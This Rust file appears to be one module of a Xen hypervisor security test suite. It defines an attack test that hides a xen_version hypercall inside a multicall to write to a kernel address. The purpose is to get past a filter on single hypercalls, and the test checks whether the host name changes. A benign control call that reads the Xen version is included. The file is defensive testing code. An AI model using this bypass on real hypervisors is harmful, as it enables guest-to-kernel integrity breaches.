//! A hypercall inside of a list of hypercalls.

use super::{Attack, Level};
use crate::calls::{number, version};
use crate::layout::MulticallEntry;
use crate::outcome::{Outcome, breached, broken, held, works};
use crate::witness::HostName;
use crate::xen::{Buffer, Privcmd};

pub(super) const ATTACK: Attack = Attack {
    id: "multicall-write",
    rule: "B3",
    level: Level::Integrity,
    summary: "multicall with a xen_version that writes to a kernel address: a way round a filter on single calls",
    needs: "privcmd",
    observed: "the kernel's host name changes without a system call",
    healthy: true,
    timeout_s: super::USUAL_S,
    run,
    twin,
};

fn run() -> Outcome {
    let privcmd = Privcmd::open()?;
    let name = HostName::marked()?;
    let answer = call(&privcmd, [version::GUEST_HANDLE, name.address]);
    if name.changed()? { breached(name.told()?) } else { held(format!("multicall: {answer:?}")) }
}

fn twin() -> Outcome {
    match call(&Privcmd::open()?, [version::VERSION, 0]) {
        Ok(version) if version > 0 => works(format!("Xen {}.{} by multicall", version >> 16, version & 0xffff)),
        other => broken(format!("multicall: {other:?}")),
    }
}

fn call(privcmd: &Privcmd, [command, address]: [u64; 2]) -> anyhow::Result<u64> {
    let entry =
        MulticallEntry { op: number::XEN_VERSION, result: u64::MAX, arguments: [command, address, 0, 0, 0, 0] };
    let list = Buffer::new(1)?;
    list.put(0, &entry);
    privcmd.hypercall(number::MULTICALL, [list.address(), 1, 0, 0, 0])?;
    Ok(list.get::<MulticallEntry>(0).result)
}
